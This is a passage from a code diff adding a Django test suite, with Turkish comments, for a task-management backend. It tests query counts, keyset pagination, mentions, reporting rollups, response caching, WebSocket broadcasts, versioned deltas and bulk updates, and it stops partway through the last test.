@@ -1,3 +1,1560 @@
-from django.test import TestCase
+import asyncio
+import csv
+import hashlib
+import io
+import json
+import shutil
+import tempfile
+import threading
+import time
+import zipfile
+from datetime import date, timedelta
+from unittest.mock import patch
+from xml.etree import ElementTree
 
-# Create your tests here.
+from PIL import Image
+from asgiref.sync import async_to_sync
+from channels.db import database_sync_to_async
+from channels.layers import InMemoryChannelLayer
+from channels.routing import URLRouter
+from channels.testing import WebsocketCommunicator
+from django.contrib.contenttypes.models import ContentType
+from django.db import connection, transaction
+from django.db.models import Sum
+from django.core.cache import cache
+from django.core.management import call_command
+from django.core.files.storage import default_storage
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.test import AsyncRequestFactory, SimpleTestCase, TestCase, TransactionTestCase, override_settings
+from django.test.utils import CaptureQueriesContext
+from django.utils import timezone
+from rest_framework.request import Request
+from rest_framework.response import Response
+from rest_framework.test import APIRequestFactory, force_authenticate
+from rest_framework.views import APIView
+
+from communications.models import Notification
+from nexus_backend.pagination import KeysetCursorPagination
+from nexus_backend.response_cache import cached_response, invalidate_tags
+from users.models import User, Role, Permission
+from users.permission_cache import clear_local_cache
+from .models import AttachmentBlob, AttachmentUpload, ChangeLog, Department, Task, TaskActivity, TaskComment, TaskAttachment, TaskRollup
+from .rollups import compact_task_rollups, rebuild_task_rollups
+from .views import AttachmentUploadViewSet, DashboardSummaryView, ReportingDataView, SyncView, TaskAttachmentCreateView, TaskCommentCreateView, TaskAttachmentDownloadView, TaskAttachmentThumbnailView, TaskViewSet
+from .blobs import collect_garbage
+from .search import normalize
+from .mentions import resolve_mentions
+from .serializers import TaskAttachmentSerializer
+from .broadcast import TaskBroadcaster, background, task_group_name
+from .deltas import replay_task_deltas
+from .transitions import transition_tasks
+from .activity import ActivityLogMiddleware, completion_times, overdue_completions, reassignments
+from .bulk import bulk_update_tasks
+from .changelog import decode_token
+from .deadlines import DEADLINE_EVENT, DEADLINE_GROUP, ESCALATION, REMINDER, DeadlineScheduler, DeadlineWorker
+from . import routing
+
+
+class TaskQueryCountTests(TestCase):
+    """ Liste/detay endpoint'lerinin sorgu sayısı görev sayısıyla büyümemeli. """
+
+    @classmethod
+    def setUpTestData(cls):
+        cls.user = User.objects.create_user('sahip@nexus.local', 'parola')
+        cls.other = User.objects.create_user('yorumcu@nexus.local', 'parola')
+
+    def _create_tasks(self, count):
+        for i in range(count):
+            task = Task.objects.create(title=f'Görev {i}', creator=self.user, assignee=self.other)
+            TaskComment.objects.create(task=task, author=self.other, content='ilk yorum')
+            TaskComment.objects.create(task=task, author=self.user, content='ikinci yorum')
+            TaskAttachment.objects.create(
+                task=task, uploader=self.other, file=f'tasks/{task.id}/attachments/foto.jpg'
+            )
+
+    def _request(self, actions, **kwargs):
+        request = APIRequestFactory().get('/operations/tasks/')
+        force_authenticate(request, user=self.user)
+        with CaptureQueriesContext(connection) as ctx:
+            response = TaskViewSet.as_view(actions)(request, **kwargs)
+            response.render()
+        self.assertEqual(response.status_code, 200)
+        return response, len(ctx)
+
+    def test_list_query_count_is_independent_of_page_size(self):
+        self._create_tasks(3)
+        self._request({'get': 'list'})  # Yetki önbelleğini ısıt
+        response, small = self._request({'get': 'list'})
+        self.assertEqual(len(response.data['results']), 3)
+
+        self._create_tasks(30)
+        response, large = self._request({'get': 'list'})
+        self.assertEqual(len(response.data['results']), 33)
+        self.assertEqual(small, large)
+
+        first = response.data['results'][0]
+        self.assertEqual(first['comment_count'], 2)
+        self.assertEqual(first['attachment_count'], 1)
+        self.assertNotIn('comments', first)
+
+    def test_detail_query_count_is_independent_of_comment_count(self):
+        self._create_tasks(1)
+        task = Task.objects.get()
+        self._request({'get': 'retrieve'}, pk=task.pk)
+        _, small = self._request({'get': 'retrieve'}, pk=task.pk)
+
+        for i in range(20):
+            author = User.objects.create_user(f'yazar{i}@nexus.local', 'parola')
+            TaskComment.objects.create(task=task, author=author, content=f'yorum {i}')
+        response, large = self._request({'get': 'retrieve'}, pk=task.pk)
+        self.assertEqual(len(response.data['comments']), 22)
+        self.assertEqual(small, large)
+
+
+class TaskPaginationTests(TestCase):
+    """ (created_at, id) keyset sayfalama ve sunucu tarafı filtreler. """
+
+    @classmethod
+    def setUpTestData(cls):
+        cls.user = User.objects.create_user('sahip@nexus.local', 'parola')
+        tasks = Task.objects.bulk_create([
+            Task(title=f'Görev {i}', creator=cls.user,
+                 priority=Task.Priority.HIGH if i % 2 else Task.Priority.LOW)
+            for i in range(7)
+        ])
+        # Aynı created_at değerine sahip görevler: sıralama id ile kırılmalı
+        Task.objects.filter(pk__in=[task.pk for task in tasks[:4]]).update(created_at=tasks[0].created_at)
+
+    def _get(self, path):
+        request = APIRequestFactory().get(path)
+        force_authenticate(request, user=self.user)
+        response = TaskViewSet.as_view({'get': 'list'})(request)
+        return response
+
+    def test_cursor_walks_every_task_once_in_order(self):
+        seen, path = [], '/operations/tasks/?page_size=2'
+        while path:
+            response = self._get(path)
+            self.assertEqual(response.status_code, 200)
+            seen.extend(item['id'] for item in response.data['results'])
+            path = response.data['next']
+        expected = list(Task.objects.order_by('-created_at', '-id').values_list('id', flat=True))
+        self.assertEqual(seen, expected)
+
+    def test_filters_and_sparse_fields(self):
+        response = self._get('/operations/tasks/?priority=HIGH&fields=id,priority')
+        results = response.data['results']
+        self.assertEqual(len(results), 3)
+        self.assertEqual({tuple(item) for item in results}, {('id', 'priority')})
+
+        response = self._get('/operations/tasks/?status=BILINMEYEN')
+        self.assertEqual(response.status_code, 400)
+
+    def test_deep_page_is_an_index_range_scan(self):
+        paginator = KeysetCursorPagination()
+        first = self._get('/operations/tasks/?page_size=2').data['next']
+        request = Request(APIRequestFactory().get(first))
+        queryset = paginator.page_queryset(Task.objects.all(), request)
+        # OR'lu seek koşulunun önünde indeksin aralık sınırı olarak kullanabileceği bir koşul var
+        where = str(queryset.query).split('WHERE', 1)[1]
+        self.assertRegex(where, r'^ \("operations_task"\."created_at" <= ')
+        plan = queryset.explain()
+        if connection.vendor == 'sqlite':
+            self.assertIn('SEARCH operations_task USING INDEX task_created_id_idx (created_at<?)', plan)
+        elif connection.vendor == 'postgresql':
+            self.assertIn('Index Cond', plan)
+
+
+@override_settings(NOTIFICATION_OUTBOX={'MODE': 'sync'})
+class TaskMentionTests(TestCase):
+    """ @mention çözümleme: tekrarsız, tek sorgu ve tek INSERT. """
+
+    @classmethod
+    def setUpTestData(cls):
+        cls.author = User.objects.create_user('yazar@nexus.local', 'parola')
+        cls.users = [User.objects.create_user(f'kisi{i}@nexus.local', 'parola') for i in range(20)]
+        User.objects.create_user('pasif@nexus.local', 'parola', is_active=False)
+        cls.task = Task.objects.create(title='Görev', creator=cls.author)
+
+    def setUp(self):
+        cache.clear()
+        clear_local_cache()
+
+    def tearDown(self):
+        background.flush()
+
+    def test_twenty_mentions_resolve_in_one_query(self):
+        text = ' '.join(f'@kisi{i}' for i in range(20)) + ' @KISI0 @pasif @yok @yazar'
+        with self.assertNumQueries(1):
+            recipients = resolve_mentions(text, exclude=[self.author.pk])
+        self.assertEqual({user.pk for user in recipients}, {user.pk for user in self.users})
+
+    def test_notifications_are_written_in_one_insert(self):
+        ContentType.objects.get_for_model(Task)
+        content = ' '.join(f'@kisi{i}' for i in range(20))
+        with CaptureQueriesContext(connection) as ctx, self.captureOnCommitCallbacks(execute=True):
+            TaskComment.objects.create(task=self.task, author=self.author, content=content)
+        lookups = [query for query in ctx if '"users_user"."handle" IN' in query['sql']]
+        inserts = [query for query in ctx if query['sql'].startswith('INSERT INTO "communications_notification"')]
+        self.assertEqual((len(lookups), len(inserts)), (1, 1))
+        self.assertEqual(Notification.objects.filter(object_id=self.task.pk).count(), 20)
+
+
+class TaskRollupTests(TestCase):
+    """ Raporlama sayaçları: sinyallerle artımlı bakım, sıkıştırma ve rapor penceresi. """
+
+    @classmethod
+    def setUpTestData(cls):
+        cls.user = User.objects.create_user('sahip@nexus.local', 'parola')
+        cls.other = User.objects.create_user('atanan@nexus.local', 'parola')
+        cls.department = Department.objects.create(name='Saha')
+
+    def _counters(self):
+        return set(
+            TaskRollup.objects.values_list('kind', 'day', 'department_id', 'status', 'assignee_id')
+                              .annotate(total=Sum('count'))
+                              .filter(total__gt=0)
+                              .order_by()
+        )
+
+    def test_signals_keep_counters_equal_to_a_rebuild(self):
+        tasks = [Task.objects.create(title=f'Görev {i}', creator=self.user) for i in range(4)]
+        # update_fields attname'lerle de verilebilir
+        tasks[0].assignee_id = self.other.pk
+        tasks[0].save(update_fields=['assignee_id'])
+        tasks[1].department = self.department
+        tasks[1].save(update_fields=['department'])
+        tasks[1].status = Task.Status.COMPLETED
+        tasks[1].save()
+        tasks[2].title = 'Yeni başlık'
+        tasks[2].save(update_fields=['title'])
+        tasks[3].delete()
+
+        incremental = self._counters()
+        today = timezone.localdate()
+        self.assertIn((TaskRollup.Kind.CREATED, today, None, Task.Status.NEW, self.other.pk, 1), incremental)
+        self.assertIn((TaskRollup.Kind.COMPLETED, today, self.department.pk, Task.Status.COMPLETED, None, 1),
+                      incremental)
+        rebuild_task_rollups()
+        self.assertEqual(incremental, self._counters())
+
+    def test_compaction_merges_duplicates_and_drops_empty_buckets(self):
+        day = timezone.localdate()
+        key = dict(kind=TaskRollup.Kind.CREATED, day=day, department=None, status=Task.Status.NEW, assignee=None)
+        TaskRollup.objects.bulk_create([
+            TaskRollup(count=2, **key), TaskRollup(count=3, **key),
+            TaskRollup(count=0, **{**key, 'status': Task.Status.CANCELLED}),
+        ])
+        before = self._counters()
+        out = io.StringIO()
+        call_command('compact_task_rollups', stdout=out)
+        self.assertIn('1 yinelenen satır birleştirildi, 1 boş kova silindi', out.getvalue())
+        self.assertEqual(TaskRollup.objects.count(), 1)
+        self.assertEqual(self._counters(), before)
+        self.assertEqual(compact_task_rollups(), (0, 0))
+
+        # --rebuild sayaçları Task tablosundan baştan hesaplar
+        call_command('compact_task_rollups', '--rebuild', stdout=io.StringIO())
+        self.assertEqual(TaskRollup.objects.count(), 0)
+
+    def test_monthly_trend_covers_six_calendar_months(self):
+        key = dict(kind=TaskRollup.Kind.CREATED, department=None, status=Task.Status.NEW, assignee=None, count=1)
+        TaskRollup.objects.bulk_create([
+            TaskRollup(day=day, **key)
+            for day in (date(2025, 9, 30), date(2025, 10, 1), date(2026, 4, 30), date(2026, 5, 1))
+        ])
+        # Pencere bu ay dahil altı takvim ayıdır; yıl dönümünde de
+        for today, expected in ((date(2026, 10, 17), [date(2026, 5, 1)]),
+                                (date(2026, 3, 15), [date(2025, 10, 1), date(2026, 4, 1), date(2026, 5, 1)])):
+            with patch('operations.views.timezone.localdate', return_value=today):
+                trend = ReportingDataView().get_querysets()['monthly_creation_trend']
+                self.assertEqual([row['month'] for row in trend], expected)
+
+
+IN_MEMORY_LAYERS = {'default': {'BACKEND': 'channels.layers.InMemoryChannelLayer'}}
+
+
+class _CountingView(APIView):
+    """ Yanıt önbelleği testleri için her hesaplamayı sayan görünüm. """
+    calls = 0
+
+    @cached_response(tags=['test'])
+    def get(self, request, *args, **kwargs):
+        type(self).calls += 1
+        return Response({'calls': type(self).calls})
+
+
+@override_settings(RESPONSE_CACHE={'WAIT_TIMEOUT': 1.0}, NOTIFICATION_OUTBOX={'MODE': 'sync'})
+class ResponseCacheTests(TestCase):
+    """ Etiketli yanıt önbelleği: ETag/304, etiketle geçersiz kılma ve single-flight. """
+
+    @classmethod
+    def setUpTestData(cls):
+        cls.role = Role.objects.create(name='Ekip Lideri')
+        cls.user = User.objects.create_user('panel@nexus.local', 'parola', first_name='Ayşe')
+        cls.user.roles.add(cls.role)
+
+    def setUp(self):
+        cache.clear()
+        clear_local_cache()
+        _CountingView.calls = 0
+        self.lock_key = (
+            f'rc:{_CountingView.__module__}._CountingView.get:shared:{hashlib.sha1(b"").hexdigest()[:12]}:lock'
+        )
+
+    def _dashboard(self, **headers):
+        request = APIRequestFactory().get('/api/dashboard/summary/', **headers)
+        force_authenticate(request, user=User.objects.get(pk=self.user.pk))
+        return DashboardSummaryView.as_view()(request)
+
+    def _counting(self):
+        return _CountingView.as_view()(APIRequestFactory().get('/sayac/')).data['calls']
+
+    def test_matching_etag_returns_304_without_queries(self):
+        response = self._dashboard()
+        self.assertEqual(response.status_code, 200)
+        etag = response['ETag']
+        request = APIRequestFactory().get('/api/dashboard/summary/', HTTP_IF_NONE_MATCH=etag)
+        force_authenticate(request, user=self.user)
+        with self.assertNumQueries(0):
+            response = DashboardSummaryView.as_view()(request)
+        self.assertEqual(response.status_code, 304)
+        self.assertEqual(response['ETag'], etag)
+
+    def test_task_write_invalidates_the_dashboard(self):
+        self.assertEqual(self._dashboard().data['stats']['my_open_tasks'], 0)
+        with self.captureOnCommitCallbacks(execute=True):
+            Task.objects.create(title='Yeni', creator=self.user, assignee=self.user)
+        self.assertEqual(self._dashboard().data['stats']['my_open_tasks'], 1)
+
+    def test_name_and_role_changes_are_not_served_stale(self):
+        first = self._dashboard().data
+        self.assertEqual((first['welcome_message'], first['user_role']), ('Hoş geldiniz, Ayşe!', 'Ekip Lideri'))
+        with self.captureOnCommitCallbacks(execute=True):
+            User.objects.filter(pk=self.user.pk).update(first_name='Fatma')
+            self.user.roles.set([Role.objects.create(name='Analist')])
+        second = self._dashboard().data
+        self.assertEqual((second['welcome_message'], second['user_role']), ('Hoş geldiniz, Fatma!', 'Analist'))
+
+    def test_overdue_count_follows_the_clock(self):
+        Task.objects.create(title='Yaklaşan', creator=self.user, due_date=timezone.now() + timedelta(seconds=30))
+        self.assertEqual(self._dashboard().data['stats']['team_overdue_tasks'], 0)
+        later = timezone.now() + timedelta(seconds=90)
+        with patch('operations.views.timezone.now', return_value=later), \
+                patch('time.time', return_value=later.timestamp()):
+            self.assertEqual(self._dashboard().data['stats']['team_overdue_tasks'], 1)
+
+    def test_tag_invalidation_recomputes_once(self):
+        self.assertEqual(self._counting(), 1)
+        self.assertEqual(self._counting(), 1)
+        invalidate_tags('test')
+        self.assertEqual(self._counting(), 2)
+        self.assertEqual(self._counting(), 2)
+
+    def test_concurrent_request_serves_stale_entry_while_leader_computes(self):
+        self._counting()
+        invalidate_tags('test')
+        cache.add(self.lock_key, 1)
+        self.assertEqual(self._counting(), 1)
+        self.assertEqual(_CountingView.calls, 1)
+
+    def test_concurrent_request_waits_for_the_leader(self):
+        cache.add(self.lock_key, 1)
+
+        def leader():
+            cache.delete(self.lock_key)
+            self._counting()
+
+        timer = threading.Timer(0.2, leader)
+        timer.start()
+        try:
+            # Bekleyen istek liderin yazdığı kaydı döner, kendisi hesaplamaz
+            self.assertEqual(self._counting(), 1)
+        finally:
+            timer.join()
+        self.assertEqual(_CountingView.calls, 1)
+
+    @override_settings(RESPONSE_CACHE={'WAIT_TIMEOUT': 0.1})
+    def test_request_computes_uncached_when_leader_is_too_slow(self):
+        cache.add(self.lock_key, 1)
+        self.assertEqual(self._counting(), 1)
+        cache.delete(self.lock_key)
+        # Kilitsiz hesaplanan yanıt önbelleğe yazılmadı
+        self.assertEqual(self._counting(), 2)
+
+
+class TaskBenchmarkCommandTests(TestCase):
+    """ benchmark_task_queries komutu ve 0004 sıcak yol indeksleri için duman testi. """
+
+    def test_seeds_measures_and_cleans_up(self):
+        with connection.cursor() as cursor:
+            indexes = connection.introspection.get_constraints(cursor, Task._meta.db_table)
+        for name in ('task_status_updated_idx', 'task_open_department_idx'):
+            self.assertIn(name, indexes)
+        # Görünürlük sorgusunun kullanmadığı indeksler kaldırıldı (bkz. migration 0015)
+        for name in ('task_assignee_created_idx', 'task_creator_created_idx'):
+            self.assertNotIn(name, indexes)
+
+        out = io.StringIO()
+        call_command('benchmark_task_queries', tasks=40, users=4, departments=2, repeat=1, stdout=out)
+        output = out.getvalue()
+        self.assertIn('40 görev', output)
+        for name in ('tasks.list (kendi görevleri, ilk sayfa)', 'tasks.list (tüm görevler, derin sayfa)',
+                     'reporting.monthly_creation_trend'):
+            self.assertIn(f'--- {name}', output)
+        # bulk_create sinyal tetiklemez; komut sayaçları kendisi yeniden hesaplar
+        created = TaskRollup.objects.filter(kind=TaskRollup.Kind.CREATED).aggregate(total=Sum('count'))
+        self.assertEqual(created['total'], 40)
+
+        call_command('benchmark_task_queries', cleanup=True, stdout=io.StringIO())
+        self.assertFalse(Task.objects.exists())
+        self.assertFalse(User.objects.filter(email__endswith='@bench.nexus.local').exists())
+
+
+class TaskBroadcasterTests(SimpleTestCase):
+    """ Görev yayınlarının birleştirilmesi ve grup başına hız sınırı. """
+
+    async def _subscribe(self, layer, group, count):
+        channels = [await layer.new_channel() for _ in range(count)]
+        for channel in channels:
+            await layer.group_add(group, channel)
+        return channels
+
+    async def test_burst_is_coalesced_into_one_event(self):
+        layer = InMemoryChannelLayer()
+        [channel] = await self._subscribe(layer, task_group_name(1), 1)
+        broadcaster = TaskBroadcaster(layer, window=0.05, min_interval=0.2, max_changes=100)
+
+        for i in range(20):
+            broadcaster.publish(task_group_name(1), {'comment_id': i})
+        event = await asyncio.wait_for(layer.receive(channel), 1)
+
+        self.assertEqual(event['type'], 'task.update')
+        self.assertEqual([change['comment_id'] for change in event['changes']], list(range(20)))
+        with self.assertRaises(asyncio.TimeoutError):
+            await asyncio.wait_for(layer.receive(channel), 0.3)
+
+    async def test_rate_limit_and_truncation(self):
+        layer = InMemoryChannelLayer()
+        [channel] = await self._subscribe(layer, task_group_name(1), 1)
+        broadcaster = TaskBroadcaster(layer, window=0.01, min_interval=0.3, max_changes=5)
+
+        broadcaster.publish(task_group_name(1), {'comment_id': 0})
+        first = await asyncio.wait_for(layer.receive(channel), 1)
+        first_at = time.monotonic()
+        for i in range(1, 9):
+            broadcaster.publish(task_group_name(1), {'comment_id': i})
+        second = await asyncio.wait_for(layer.receive(channel), 1)
+
+        self.assertGreaterEqual(time.monotonic() - first_at, 0.25)
+        self.assertEqual(len(first['changes']), 1)
+        # En eski değişiklikler atılır, istemci görevi yeniden çekmesi gerektiğini anlar
+        self.assertTrue(second['truncated'])
+        self.assertEqual([change['comment_id'] for change in second['changes']], [4, 5, 6, 7, 8])
+
+    async def test_groups_are_limited_independently(self):
+        layer = InMemoryChannelLayer()
+        [one] = await self._subscribe(layer, task_group_name(1), 1)
+        [two] = await self._subscribe(layer, task_group_name(2), 1)
+        broadcaster = TaskBroadcaster(layer, window=0.01, min_interval=10, max_changes=100)
+
+        broadcaster.publish(task_group_name(1), {'comment_id': 1})
+        broadcaster.publish(task_group_name(2), {'comment_id': 2})
+        await asyncio.wait_for(broadcaster.drain(), 1)
+
+        self.assertEqual((await layer.receive(one))['changes'], [{'comment_id': 1}])
+        self.assertEqual((await layer.receive(two))['changes'], [{'comment_id': 2}])
+
+    async def test_send_is_ordered_and_never_truncated(self):
+        layer = InMemoryChannelLayer()
+        [channel] = await self._subscribe(layer, 'olaylar', 1)
+        broadcaster = TaskBroadcaster(layer, window=0.01, min_interval=10, max_changes=2)
+
+        for i in range(5):
+            broadcaster.send('olaylar', {'type': 'test.event', 'index': i})
+        await asyncio.wait_for(broadcaster.drain(), 1)
+
+        events = [await layer.receive(channel) for _ in range(5)]
+        self.assertEqual([event['index'] for event in events], list(range(5)))
+        self.assertFalse(any('truncated' in event for event in events))
+
+
+@override_settings(CHANNEL_LAYERS=IN_MEMORY_LAYERS)
+class TaskBroadcastLoadTests(TransactionTestCase):
+    """ Yüzlerce WebSocket istemcisine yayılım (fan-out) gecikmesi. """
+
+    CLIENTS = 300
+    CHANGES = 50
+
+    def setUp(self):
+        # Önceki testlerden bekleyen yayınlar bu testin odasına düşmesin
+        background.flush()
+        self.user = User.objects.create_user('izleyici@nexus.local', 'parola')
+        self.task = Task.objects.create(title='Kalabalık görev', creator=self.user)
+
+    async def _connect(self, path):
+        client = WebsocketCommunicator(URLRouter(routing.websocket_urlpatterns), path)
+        client.scope['user'] = self.user
+        connected, _ = await client.connect()
+        self.assertTrue(connected)
+        return client
+
+    async def test_fan_out_latency(self):
+        clients = [await self._connect(f'/ws/tasks/{self.task.pk}/') for _ in range(self.CLIENTS)]
+        for client in clients:
+            self.assertEqual((await client.receive_json_from())['type'], 'task.version')
+
+        async def receive(client):
+            message = await client.receive_json_from(timeout=5)
+            return time.perf_counter(), message
+
+        try:
+            broadcaster = TaskBroadcaster(window=0.02, min_interval=0.5, max_changes=100)
+            started = time.perf_counter()
+            for i in range(self.CHANGES):
+                broadcaster.publish(task_group_name(self.task.pk), {'comment_id': i})
+            results = await asyncio.gather(*(receive(client) for client in clients))
+
+            latencies = sorted((received - started) * 1000 for received, _ in results)
+            # Her istemci tüm değişiklikleri TEK mesajda almalı
+            for _, message in results:
+                self.assertEqual(len(message['changes']), self.CHANGES)
+            for client in clients:
+                self.assertTrue(await client.receive_nothing(timeout=0.01))
+            # Kaba bir üst sınır: pencere + 300 istemciye gönderim
+            self.assertLess(latencies[-1], 2000)
+        finally:
+            for client in clients:
+                await client.disconnect()
+
+    async def test_resume_replays_missed_deltas(self):
+        def add_comments():
+            for i in range(3):
+                TaskComment.objects.create(task=self.task, author=self.user, content=f'yorum {i}')
+
+        await database_sync_to_async(add_comments)()
+        client = await self._connect(f'/ws/tasks/{self.task.pk}/?since=1')
+        message = await client.receive_json_from()
+        self.assertEqual(message['type'], 'task.replay')
+        self.assertEqual(message['version'], 3)
+        self.assertEqual([delta['version'] for delta in message['changes']], [2, 3])
+        self.assertEqual(message['changes'][0]['data']['content'], 'yorum 1')
+
+        # Tamponda olmayan bir aralık: istemci görevi yeniden çekmeli
+        await client.send_json_to({'type': 'resume', 'version': -5})
+        self.assertEqual(await client.receive_json_from(), {'type': 'task.resync', 'version': 3})
+        await client.disconnect()
+
+    async def test_requires_visible_task(self):
+        stranger = await database_sync_to_async(User.objects.create_user)('yabanci@nexus.local', 'parola')
+        client = WebsocketCommunicator(URLRouter(routing.websocket_urlpatterns), f'/ws/tasks/{self.task.pk}/')
+        client.scope['user'] = stranger
+        connected, code = await client.connect()
+        self.assertFalse(connected)
+        self.assertEqual(code, 4403)
+
+
+@override_settings(CHANNEL_LAYERS=IN_MEMORY_LAYERS)
+class TaskDeltaTests(TestCase):
+    """ Görev değişikliklerinin tipli, sürümlü delta'lara dönüşmesi. """
+
+    @classmethod
+    def setUpTestData(cls):
+        cls.user = User.objects.create_user('sahip@nexus.local', 'parola')
+        cls.other = User.objects.create_user('atanan@nexus.local', 'parola')
+
+    def setUp(self):
+        cache.clear()
+
+    def tearDown(self):
+        # Hız sınırı nedeniyle bekleyen yayınlar sonraki testlerin odalarına düşmesin
+        background.flush()
+
+    def test_each_change_gets_the_next_version(self):
+        with self.captureOnCommitCallbacks(execute=True):
+            task = Task.objects.create(title='Görev', creator=self.user)
+            TaskComment.objects.create(task=task, author=self.user, content='merhaba')
+            task.status = Task.Status.COMPLETED
+            task.save()
+            task.title, task.assignee = 'Yeni başlık', self.other
+            task.save()
+            # Sadece yazılan alanlar gönderilir
+            task.priority = Task.Priority.HIGH
+            task.save(update_fields=['priority'])
+
+        task.refresh_from_db()
+        self.assertEqual(task.version, 4)
+        changes = replay_task_deltas(task.pk, 0, task.version)
+        self.assertEqual(
+            [(delta['version'], delta['type']) for delta in changes],
+            [(1, 'comment_added'), (2, 'status_changed'), (3, 'field_patch'), (4, 'field_patch')],
+        )
+        self.assertEqual(changes[0]['data']['content'], 'merhaba')
+        self.assertEqual(changes[1]['data']['from'], 'NEW')
+        self.assertEqual(changes[1]['data']['to'], 'COMPLETED')
+        self.assertIsNotNone(changes[1]['data']['completed_at'])
+        self.assertEqual(set(changes[2]['data']), {'title', 'assignee', 'updated_at'})
+        self.assertEqual(changes[2]['data']['assignee']['email'], 'atanan@nexus.local')
+        self.assertEqual(set(changes[3]['data']), {'priority', 'updated_at'})
+
+    def test_full_save_does_not_overwrite_version(self):
+        task = Task.objects.create(title='Görev', creator=self.user)
+        stale = Task.objects.get(pk=task.pk)
+        TaskComment.objects.create(task=task, author=self.user, content='araya giren yorum')
+        stale.save()
+        task.refresh_from_db()
+        self.assertEqual(task.version, 1)
+
+
+@override_settings(CHANNEL_LAYERS=IN_MEMORY_LAYERS, NOTIFICATION_OUTBOX={'MODE': 'sync'})
+class TaskBulkUpdateTests(TestCase):
+    """ Toplu güncelleme: küme üzerinde yetki, görev sayısından bağımsız sorgu sayısı. """
+
+    @classmethod
+    def setUpTestData(cls):
+        cls.user = User.objects.create_user('sahip@nexus.local', 'parola')
+        cls.other = User.objects.create_user('atanan@nexus.local', 'parola')
+        cls.viewer = User.objects.create_user('izleyici@nexus.local', 'parola')
+        role = Role.objects.create(name='Gözlemci')
+        role.permissions.add(Permission.objects.create(name='tasks.view_all'))
+        cls.viewer.roles.add(role)
+
+    def setUp(self):
+        cache.clear()
+        clear_local_cache()
+
+    def tearDown(self):
+        background.flush()
+
+    def _bulk(self, user, payload):
+        request = APIRequestFactory().post('/operations/tasks/bulk/', payload, format='json')
+        force_authenticate(request, user=user)
+        with self.captureOnCommitCallbacks(execute=True), CaptureQueriesContext(connection) as ctx:
+            response = TaskViewSet.as_view({'post': 'bulk_update'})(request)
+        return response, len(ctx)
+
+    def _tasks(self, count):
+        return [Task.objects.create(title=f'Görev {i}', creator=self.user) for i in range(count)]
+
+    def test_query_count_is_independent_of_task_count(self):
+        payload = {'changes': {'status': 'ASSIGNED', 'assignee_id': self.other.pk}}
+        self._bulk(self.user, {**payload, 'ids': [task.pk for task in self._tasks(2)]})  # Önbellekleri ısıt
+        small = self._tasks(3)
+        response, few = self._bulk(self.user, {**payload, 'ids': [task.pk for task in small]})
+        self.assertEqual(response.data['updated'], 3)
+        large = self._tasks(30)
+        response, many = self._bulk(self.user, {**payload, 'ids': [task.pk for task in large]})
+        self.assertEqual(response.data['updated'], 30)
+        self.assertEqual(few, many)
+        # Atanan kişiye görev başına bildirim, tek batch'te
+        self.assertEqual(self.other.notifications.count(), 35)
+
+    def test_per_item_results_and_side_effects(self):
+        mine, done, new = self._tasks(3)
+        for task, task_status in ((mine, Task.Status.IN_PROGRESS), (done, Task.Status.COMPLETED)):
+            task.status = task_status
+            task.save()
+        completed_at = Task.objects.get(pk=done.pk).completed_at
+        hidden = Task.objects.create(title='Başkasının', creator=self.other)
+
+        response, _ = self._bulk(self.viewer, {'ids': [mine.pk], 'changes': {'priority': 'HIGH'}})
+        self.assertEqual(response.data['results'], [{'id': mine.pk, 'result': 'forbidden'}])
+
+        response, _ = self._bulk(self.user, {
+            'ids': [mine.pk, done.pk, new.pk, hidden.pk, 999999], 'changes': {'status': 'COMPLETED'},
+        })
+        self.assertEqual([item['result'] for item in response.data['results']],
+                         ['updated', 'unchanged', 'invalid_transition', 'not_found', 'not_found'])
+        self.assertEqual(Task.objects.get(pk=new.pk).status, Task.Status.NEW)
+
+        mine.refresh_from_db()
+        self.assertEqual(mine.status, Task.Status.COMPLETED)
+        self.assertIsNotNone(mine.completed_at)
+        self.assertEqual(Task.objects.get(pk=done.pk).completed_at, completed_at)
+        # Delta'lar tek tek kayıttaki ile aynı sırayla numaralanır
+        self.assertEqual([delta['type'] for delta in replay_task_deltas(mine.pk, mine.version - 1, mine.version)],
+                         ['status_changed'])
+
+        # Sayaçlar baştan hesaplananla aynı olmalı
+        counts = lambda: sorted(TaskRollup.objects.values_list('kind', 'day', 'status').annotate(total=Sum('count'))
+                                .filter(total__gt=0).order_by())
+        incremental = counts()
+        rebuild_task_rollups()
+        self.assertEqual(incremental, counts())
+
+    def test_rejects_unknown_fields(self):
+        [task] = self._tasks(1)
+        response, _ = self._bulk(self.user, {'ids': [task.pk], 'changes': {'title': 'x'}})
+        self.assertEqual(response.status_code, 400)
+        response, _ = self._bulk(self.user, {'ids': [task.pk], 'changes': {}})
+        self.assertEqual(response.status_code, 400)
+
+
+class TaskConditionalRequestTests(TestCase):
+    """ ETag / Last-Modified doğrulayıcıları ve If-Match ile iyimser eşzamanlılık. """
+
+    @classmethod
+    def setUpTestData(cls):
+        cls.user = User.objects.create_user('sahip@nexus.local', 'parola')
+        cls.task = Task.objects.create(title='Görev', creator=cls.user)
+
+    def _call(self, method, actions, path, data=None, **headers):
+        request = getattr(APIRequestFactory(), method)(path, data, format='json', **headers)
+        force_authenticate(request, user=self.user)
+        with CaptureQueriesContext(connection) as ctx:
+            response = TaskViewSet.as_view(actions)(request, **({} if 'list' in actions.values() else {'pk': self.task.pk}))
+            response.render()
+        return response, len(ctx)
+
+    def _retrieve(self, **headers):
+        return self._call('get', {'get': 'retrieve'}, f'/operations/tasks/{self.task.pk}/', **headers)
+
+    def test_retrieve_returns_304_from_a_single_query(self):
+        response, _ = self._retrieve()
+        etag = response['ETag']
+        self.assertIn('Last-Modified', response)
+
+        response, queries = self._retrieve(HTTP_IF_NONE_MATCH=etag)
+        self.assertEqual(response.status_code, 304)
+        self.assertEqual(queries, 1)
+
+        TaskComment.objects.create(task=self.task, author=self.user, content='yeni yorum')
+        response, _ = self._retrieve(HTTP_IF_NONE_MATCH=etag)
+        self.assertEqual(response.status_code, 200)
+        self.assertNotEqual(response['ETag'], etag)
+
+    def test_list_returns_304_until_a_task_changes(self):
+        path = '/operations/tasks/?page_size=10'
+        self._call('get', {'get': 'list'}, path)  # Yetki önbelleğini ısıt
+        # Doğrulayıcı gövde için okunan sayfadan hesaplanır: sayfa sorgusu bir kez çalışır
+        response, queries = self._call('get', {'get': 'list'}, path)
+        self.assertEqual(queries, 1)
+        etag = response['ETag']
+        response, queries = self._call('get', {'get': 'list'}, path, HTTP_IF_NONE_MATCH=etag)
+        self.assertEqual(response.status_code, 304)
+        self.assertEqual(queries, 1)
+
+        Task.objects.filter(pk=self.task.pk).update(title='Değişti', updated_at=timezone.now())
+        response, _ = self._call('get', {'get': 'list'}, path, HTTP_IF_NONE_MATCH=etag)
